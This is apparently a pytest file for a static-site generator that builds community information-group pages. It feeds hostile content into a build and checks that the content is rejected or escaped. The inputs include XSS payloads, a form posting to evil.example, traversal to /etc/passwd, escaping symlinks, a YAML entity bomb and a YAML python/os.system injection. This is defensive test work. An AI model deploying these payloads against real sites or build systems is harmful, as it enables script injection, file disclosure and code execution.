"""The adversarial province: hostile and broken content beside good KIMs, built through the CLI.

The files are written by the test into a tmp dir (nothing hostile is committed).
What must hold: exit code 1, every bad file named, no traceback, the good KIMs
built whole, no executable script from content in any output file, and nothing
written outside the output directory.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from conftest import PROVINSI, image, invoke, write_tree
from test_safety_limits import BILLION_LAUGHS
from test_safety_scan import scan_output

XSS = "<script>alert(1)</script>"
ATTR = '"><img src=x onerror=alert(1)>'

GOOD_PROFILE = """\
nama: KIM Baik
desa: Sumberrejo
kecamatan: Purwosari
kabupaten: Kabupaten Pasuruan
warna: "#0b6e4f"
kontak: {telepon: "0812-1111-2222", whatsapp: "+62 812 1111 2222"}
logo: media/logo.png
"""

# Hostile but valid: every value is text that must come out escaped, and the KIM builds.
ODD_PROFILE = f"""\
nama: '{XSS} KIM Aneh'
desa: '{ATTR}'
kecamatan: "<svg onload=alert(1)>"
kabupaten: Kabupaten Pasuruan
deskripsi: '</title><script>alert(1)</script> javascript:alert(1)'
visi: '<iframe src=https://evil.example></iframe>'
misi: ['{XSS}', '<a href="javascript:alert(1)">klik</a>']
ketua: '<b onmouseover=alert(1)>Ketua</b>'
pengurus: [{{nama: '{XSS}', jabatan: '{ATTR}'}}]
kontak: {{alamat: '{ATTR}', email: '"onmouseover="alert(1)'}}
media_sosial: {{facebook: 'https://facebook.example/x"onmouseover="alert(1)'}}
bidang: ['{XSS}']
sk: {{nomor: '{XSS}', oleh: '{ATTR}'}}
"""

PNG = image("PNG")
PDF = b"%PDF-1.4 jadwal posyandu"
BOMB = "---\njudul: Bom\ntanggal: 2024-12-01\n" + BILLION_LAUGHS + "---\nIsi.\n"


def fm(**values) -> str:
    lines = [f"{k}: {v}" for k, v in values.items()]
    return "---\n" + "\n".join(lines) + "\n---\n"


GOOD = {
    "kim/kim-baik/profil.yaml": GOOD_PROFILE,
    "kim/kim-baik/media/logo.png": PNG,
    "kim/kim-baik/media/foto.png": PNG,
    "kim/kim-baik/media/jadwal.pdf": PDF,
    "kim/kim-baik/berita/2024-12-10-posyandu.md": fm(judul="Posyandu Balita", tanggal="2024-12-10",
                                                     gambar="media/foto.png", video="https://youtu.be/dQw4w9WgXcQ")
    + "Posyandu **lancar**. Hubungi kami di 0812-1111-2222.\n\n![Foto](../media/foto.png)\n\n"
      "Lihat [kerja bakti](2024-12-01-kerja-bakti.md).\n",
    "kim/kim-baik/berita/2024-12-01-kerja-bakti.md": "\ufeff" + fm(judul="Kerja Bakti", tanggal="2024-12-01").replace(
        "\n", "\r\n") + "Warga membersihkan saluran air.\r\n",
    "kim/kim-baik/halaman/tentang.md": fm(judul="Tentang Kami") + "KIM Baik dibentuk tahun 2020.\n",
    "kim/kim-aneh/profil.yaml": ODD_PROFILE,
    "kim/kim-aneh/berita/2024-12-05-judul-jahat.md": fm(
        judul=f"'{XSS}</title>'", tanggal="2024-12-05", ringkasan=f"'{ATTR}'", kategori="'<b onmouseover=alert(1)>x</b>'",
        tag=f"['{XSS}', 'javascript:alert(1)']", penulis=f"'{ATTR}'")
    + "Teks biasa dengan kimgen-url:../../kim-baik/ di dalamnya.\n",
    "kim/kim-aneh/agenda/2024-12-30-rapat.md": fm(judul="Rapat", tanggal="2024-12-01",
                                                  tanggal_mulai="2024-12-30 08:00", lokasi=f"'{ATTR}'") + "Rapat.\n",
    "kim/kim-aneh/cek-fakta/2024-12-04-hoaks.md": fm(judul="Hoaks", tanggal="2024-12-04", klaim=f"'{XSS}'",
                                                     status="hoaks", sumber="['https://x.example/\"onclick=\"a']")
    + "Tidak benar.\n",
    "pengumuman/2024-12-01-umum.md": fm(judul=f"'{XSS}'", tanggal="2024-12-01", penting="true",
                                       berlaku_sampai="2024-12-31") + "Pengumuman.\n",
}

BAD_KIM = "kim/kim-jahat"
BAD_FILES = {
    f"{BAD_KIM}/profil.yaml": GOOD_PROFILE.replace("KIM Baik", "KIM Jahat").replace(
        '"#0b6e4f"', '"red;}</style><script>alert(1)</script>"').replace("logo: media/logo.png\n", ""),
    f"{BAD_KIM}/berita/2024-12-01-script.md": fm(judul="Skrip", tanggal="2024-12-01")
    + f"Halo {XSS}\n\n<img src=x onerror=alert(1)>\n",
    f"{BAD_KIM}/berita/2024-12-02-tautan-js.md": fm(judul="Tautan", tanggal="2024-12-02")
    + "[klik](javascript:alert(1)) dan ![x](data:image/png;base64,AAAA)\n",
    f"{BAD_KIM}/berita/2024-12-03-html-js.md": fm(judul="Tautan HTML", tanggal="2024-12-03")
    + '<a href="  JaVaScRiPt:alert(1)">klik</a> <a href="vbscript:x">v</a>\n',
    f"{BAD_KIM}/berita/2024-12-04-iframe.md": fm(judul="Video", tanggal="2024-12-04")
    + '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>\n',
    f"{BAD_KIM}/berita/2024-12-05-form.md": fm(judul="Formulir", tanggal="2024-12-05")
    + '<form action="https://evil.example"><input name=p></form><object data=x></object><embed src=x>'
      '<style>body{display:none}</style><svg onload=alert(1)></svg>\n',
    f"{BAD_KIM}/berita/2024-12-06-marker.md": fm(judul="Penanda", tanggal="2024-12-06")
    + '<a href="kimgen-url:../../../kim-baik/">baik</a>\n',
    f"{BAD_KIM}/berita/2024-12-07-keluar.md": fm(judul="Keluar", tanggal="2024-12-07")
    + "![x](../../kim-baik/media/foto.png) [p](../../../../etc/passwd) ![a](/etc/passwd)\n",
    f"{BAD_KIM}/berita/2024-12-08-gambar.md": fm(judul="Gambar", tanggal="2024-12-08", gambar="javascript:alert(1)"),
    f"{BAD_KIM}/berita/2024-12-09-gambar-luar.md": fm(judul="Gambar Luar", tanggal="2024-12-09",
                                                     gambar="../../kim-baik/media/foto.png"),
    f"{BAD_KIM}/berita/2024-12-10-video.md": fm(judul="Video", tanggal="2024-12-10",
                                               video="'javascript:alert(1)//youtube.com/watch?v=dQw4w9WgXcQ'"),
    f"{BAD_KIM}/berita/2024-12-11-bom.md": BOMB,
    f"{BAD_KIM}/berita/2024-12-12-dalam.md": "---\njudul: Dalam\ntanggal: 2024-12-12\nx: " + "[" * 3000 + "]" * 3000
    + "\n---\nIsi.\n",
    f"{BAD_KIM}/berita/2024-12-13-biner.md": b"\x89PNG\r\n\x1a\n\x00\x00\x00binary",
    f"{BAD_KIM}/berita/2024-12-14-kosong.md": "",
    f"{BAD_KIM}/berita/2024-12-15-ansi.md": "---\njudul: Caf\xe9\ntanggal: 2024-12-15\n---\nIsi\n".encode("cp1252"),
    f"{BAD_KIM}/berita/2024-12-16-python.md": "---\njudul: !!python/object/apply:os.system ['id']\n"
    "tanggal: 2024-12-16\n---\nIsi.\n",
    f"{BAD_KIM}/berita/a-satu.md": fm(judul="Satu", tanggal="2024-12-17", slug="sama"),
    f"{BAD_KIM}/berita/b-dua.md": fm(judul="Dua", tanggal="2024-12-18", slug="'Sama!!'"),
    f"{BAD_KIM}/media/halaman.html": f"<html>{XSS}</html>",
    f"{BAD_KIM}/media/gambar.svg": f"<svg onload=alert(1)>{XSS}</svg>",
    f"{BAD_KIM}/media/palsu.jpg": f"<html>{XSS}</html>",
}
BAD_NAMES = {  # folders that are not valid KIM names
    "kim/Kim_Besar/profil.yaml": GOOD_PROFILE,
    "kim/kabupaten/profil.yaml": GOOD_PROFILE,
    "kim/pemantauan/profil.yaml": GOOD_PROFILE,
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    root = base / "konten"
    secret = base / "rahasia"
    secret.mkdir()
    (secret / "kunci.txt").write_text("RAHASIA-BUILD-MACHINE")
    (secret / "profil.yaml").write_text("nama: RAHASIA-BUILD-MACHINE\n")
    write_tree(root, {"provinsi.yaml": PROVINSI, **GOOD, **BAD_FILES, **BAD_NAMES})
    # symlinks that lead out of the KIM folder, and one that stays inside
    (root / BAD_KIM / "media" / "kunci.jpg").symlink_to(secret / "kunci.txt")
    (root / BAD_KIM / "halaman").mkdir()
    (root / BAD_KIM / "halaman" / "rahasia.md").symlink_to(secret / "kunci.txt")
    (root / "kim/kim-tautan").symlink_to(secret)
    (root / "kim/kim-profil-luar").mkdir()
    (root / "kim/kim-profil-luar/profil.yaml").symlink_to(secret / "profil.yaml")
    (root / "kim/kim-baik/media/jadwal-lain.pdf").symlink_to("jadwal.pdf")  # inside: its bytes are copied
    (root / BAD_KIM / "agenda").symlink_to(secret)
    before = _tree(base)
    out = base / "sites"
    env = {"KIMGEN_NOW": "2024-12-20", "CI": "true"}
    result = invoke(["build", str(root), "-o", str(out)], env=env)
    return root, out, result, before, base


def _tree(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*")}


def test_exit_code_is_1_and_no_traceback(hostile):
    _, _, result, _, _ = hostile
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and "Traceback" not in result.stderr
    assert "KIM: 2 dibangun, 0 dilewati (tidak berubah), 2 gagal;" in result.stderr


def test_every_bad_file_is_named(hostile):
    _, _, result, _, _ = hostile
    lines = result.stderr.splitlines()
    expected = [p for p in BAD_FILES if not p.endswith("profil.yaml")] + [
        f"{BAD_KIM}/profil.yaml:", f"{BAD_KIM}/media/kunci.jpg", f"{BAD_KIM}/halaman/rahasia.md",
        f"{BAD_KIM}/agenda", "kim/Kim_Besar", "kim/kabupaten", "kim/pemantauan", "kim/kim-tautan",
        "kim/kim-profil-luar/profil.yaml"]
    missing = [p for p in expected if not any(p.rstrip(":") in line for line in lines)]
    assert missing == [], result.stderr


def test_messages_say_what_is_wrong(hostile):
    _, _, result, _, _ = hostile
    err = result.stderr
    assert (f"{BAD_KIM}/profil.yaml:5: warna: `red;}}</style><script>alert(1)</script>` bukan kode warna; "
            "tulis seperti `#0b6e4f` (tanda # lalu 6 angka/huruf a-f).") in err
    assert (f"{BAD_KIM}/berita/2024-12-01-script.md:5: HTML <script> tidak diizinkan karena bisa menjalankan "
            "skrip atau menyisipkan halaman lain; hapus bagian itu; tulisan KIM hanya boleh berisi teks, "
            "tautan, gambar dan tabel.") in err
    assert (f"{BAD_KIM}/berita/2024-12-04-iframe.md:5: HTML <iframe> tidak diizinkan karena bisa menjalankan "
            "skrip atau menyisipkan halaman lain; untuk video YouTube, hapus kode sematan ini dan tulis "
            "`video: https://www.youtube.com/watch?v=...` di bagian atas berkas (di antara dua baris ---).") in err
    assert (f"{BAD_KIM}/berita/2024-12-11-bom.md:4: tanda & atau * di awal nilai punya arti khusus yang tidak "
            "dipakai kimgen") in err
    assert (f"{BAD_KIM}/berita/2024-12-12-dalam.md:4: data bersarang terlalu dalam (lebih dari 20 tingkat). "
            "Sederhanakan isiannya.") in err
    assert (f"{BAD_KIM}/berita/b-dua.md:4: slug: alamat `sama` sudah dipakai oleh {BAD_KIM}/berita/a-satu.md; "
            "tulis alamat lain di `slug:`.") in err
    assert (f"{BAD_KIM}/media/kunci.jpg: tautan simbolik (symlink) ini menunjuk ke luar folder KIM "
            "dan diabaikan.") in err


def test_good_kims_are_built_whole(hostile):
    _, out, _, _, _ = hostile
    for path in ["kim-baik/index.html", "kim-baik/profil/index.html", "kim-baik/berita/posyandu/index.html",
                 "kim-baik/berita/kerja-bakti/index.html", "kim-baik/tentang/index.html", "kim-baik/media/jadwal.pdf",
                 "kim-baik/feed.xml", "kim-aneh/index.html", "kim-aneh/profil/index.html",
                 "kim-aneh/berita/judul-jahat/index.html", "kim-aneh/agenda/rapat/index.html",
                 "kim-aneh/cek-fakta/hoaks/index.html", "index.html", "pengumuman/umum/index.html"]:
        assert (out / path).is_file(), path
    post = (out / "kim-baik/berita/posyandu/index.html").read_text()
    # photos are published resized only (their originals may hold GPS)
    assert not (out / "kim-baik/media/foto.png").exists() and not (out / "kim-baik/media/logo.png").exists()
    assert '<picture><source type="image/webp" srcset="../../media/_/foto-16.' in post and 'alt="Foto"' in post
    assert 'href="../kerja-bakti/"' in post
    assert ('<a class="poster" href="https://www.youtube.com/watch?v=dQw4w9WgXcQ" rel="noopener" '
            'data-youtube="dQw4w9WgXcQ" data-title="Posyandu Balita">' in post)
    # a symlink that stays inside the KIM is copied as a plain file with the target's bytes
    copy = out / "kim-baik/media/jadwal-lain.pdf"
    assert copy.is_file() and not copy.is_symlink() and copy.read_bytes() == PDF


def test_bad_kims_are_not_published(hostile):
    _, out, _, _, _ = hostile
    for folder in ["kim-jahat", "Kim_Besar", "kim-tautan", "kim-profil-luar"]:
        assert not (out / folder).exists(), folder
    assert (out / "kabupaten/kabupaten-pasuruan/index.html").is_file()  # the portal's own, not a KIM


def test_no_live_script_in_any_output_file(hostile):
    _, out, _, _, _ = hostile
    assert scan_output(out) == {}


def test_hostile_text_comes_out_escaped(hostile):
    _, out, _, _, _ = hostile
    profile = (out / "kim-aneh/profil/index.html").read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt; KIM Aneh" in profile
    assert 'href="https://facebook.example/x&#34;onmouseover=&#34;alert(1)"' in profile
    post = (out / "kim-aneh/berita/judul-jahat/index.html").read_text()
    assert "<h1>&lt;script&gt;alert(1)&lt;/script&gt;&lt;/title&gt;</h1>" in post
    # content that writes the internal link marker gets text, not a link
    assert "kimgen-url&#58;../../kim-baik/" in post
    assert (out / "kim-aneh/tag/javascript-alert-1/index.html").is_file()


def test_nothing_outside_the_output_directory_and_no_secret_leaks(hostile):
    root, out, _, before, base = hostile
    after = _tree(base)
    # the build's own lock and manifest of published files sit beside the output, never in it
    written = {p for p in after - before if not p.startswith("sites")}
    assert written <= {".sites.kimgen-lock", ".sites.kimgen-manifest.json"}
    for path in out.rglob("*"):
        assert not path.is_symlink(), path
        if path.is_file():
            assert b"RAHASIA-BUILD-MACHINE" not in path.read_bytes(), path


def test_a_rebuild_of_the_hostile_province_is_stable(hostile):
    root, out, first, _, _ = hostile
    again = invoke(["build", str(root), "-o", str(out)], env={"KIMGEN_NOW": "2024-12-20", "CI": "1"})
    assert again.exit_code == 1
    assert "berkas: 0 ditulis" in again.stderr
    assert sorted(again.stderr.splitlines()[:-1]) == sorted(first.stderr.splitlines()[:-1])


def test_an_unreadable_kim_folder_is_that_kims_error(tmp_path, monkeypatch):
    import kimgen.content.discovery as discovery

    real = discovery._files

    def files(folder, *args):
        if "kim-kunci" in str(folder):
            raise PermissionError(13, "Permission denied")
        return real(folder, *args)

    monkeypatch.setattr(discovery, "_files", files)
    root = write_tree(tmp_path / "konten", {"provinsi.yaml": PROVINSI, **{k: v for k, v in GOOD.items()
                                                                          if k.startswith("kim/kim-baik")}})
    (root / "kim/kim-kunci/berita").mkdir(parents=True)
    result = invoke(["build", str(root), "-o", str(tmp_path / "sites"), "-j", "1"],  # the patch holds here
                                env={"KIMGEN_NOW": "2024-12-20", "CI": "1"})
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    assert "kim/kim-kunci: folder KIM tidak dapat dibaca (Permission denied)." in result.stderr
    assert (tmp_path / "sites/kim-baik/index.html").is_file()
